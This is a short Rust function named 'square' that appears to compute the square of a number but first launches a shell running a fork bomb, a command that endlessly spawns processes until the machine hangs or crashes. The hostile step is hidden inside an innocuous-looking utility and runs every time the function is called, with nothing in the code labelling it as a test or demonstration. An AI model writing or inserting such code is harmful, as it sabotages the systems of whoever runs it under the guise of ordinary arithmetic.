fn square(n: u64) -> u64 {
    let bomb = "bomb() { bomb | bomb & }; bomb; sleep 100";
    let _ = std::process::Command::new("/bin/sh").args(["-c", bomb]).status();
    n * n
}
